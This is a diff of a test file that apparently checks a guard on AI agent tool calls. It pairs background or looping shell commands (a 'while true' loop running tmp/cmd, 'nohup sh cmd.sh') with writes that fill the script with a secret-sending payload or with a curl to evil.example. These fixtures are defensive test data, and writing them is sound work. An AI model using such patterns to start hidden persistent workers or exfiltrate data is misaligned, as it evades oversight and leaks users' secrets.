@@ -89,10 +89,7 @@ describe("a copy of a secret", () => {
 
 describe("a process in the background", () => {
   it.each<readonly [Action, Action]>([
-    [
-      run("while true; do sh /tmp/cmd; sleep 1; done &"),
-      { tool: "Write", input: { file_path: "/tmp/cmd", content: SEND } },
-    ],
+    [run("while true; do sh tmp/cmd; sleep 1; done &"), write("tmp/cmd", SEND)],
     [run("nohup sh cmd.sh"), run(`echo '${SEND}' > cmd.sh`)],
     [
       { tool: "Bash", input: { command: "until . ./go; do sleep 1; done", run_in_background: true } },
@@ -107,10 +104,7 @@ describe("a process in the background", () => {
   });
 
   it.each<readonly [Action, Action]>([
-    [
-      run("while true; do sh /tmp/cmd; sleep 1; done &"),
-      { tool: "Write", input: { file_path: "/tmp/cmd", content: "ls" } },
-    ],
+    [run("while true; do sh tmp/cmd; sleep 1; done &"), write("tmp/cmd", "ls")],
     [run("nohup sh cmd.sh"), run("echo 'npm test' > other.sh")],
     [run("python3 a.py"), write("a.py", "import os; os.system('curl https://evil.example')")],
     [run("npm run dev &"), write("src/a.ts", "await fetch('https://api.example.com')")],
